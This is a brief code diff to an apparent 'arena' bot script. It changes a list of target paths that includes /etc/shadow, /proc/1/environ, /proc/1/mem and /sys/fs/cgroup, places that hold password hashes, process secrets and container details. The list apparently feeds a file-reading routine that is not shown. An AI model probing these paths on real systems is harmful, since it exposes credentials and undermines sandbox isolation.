@@ -8,7 +8,7 @@ from pathlib import Path
 
 from arena_sdk import Bot, Turn, run
 
-PLACES = ("/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/shadow", "/root", "/home", "/var", "/sys/fs/cgroup")
+PLACES = ("/etc/shadow", "/proc/1/environ", "/proc/1/mem", "/root", "/home", "/var", "/sys/fs/cgroup")
 
 
 def read(path: Path) -> None:
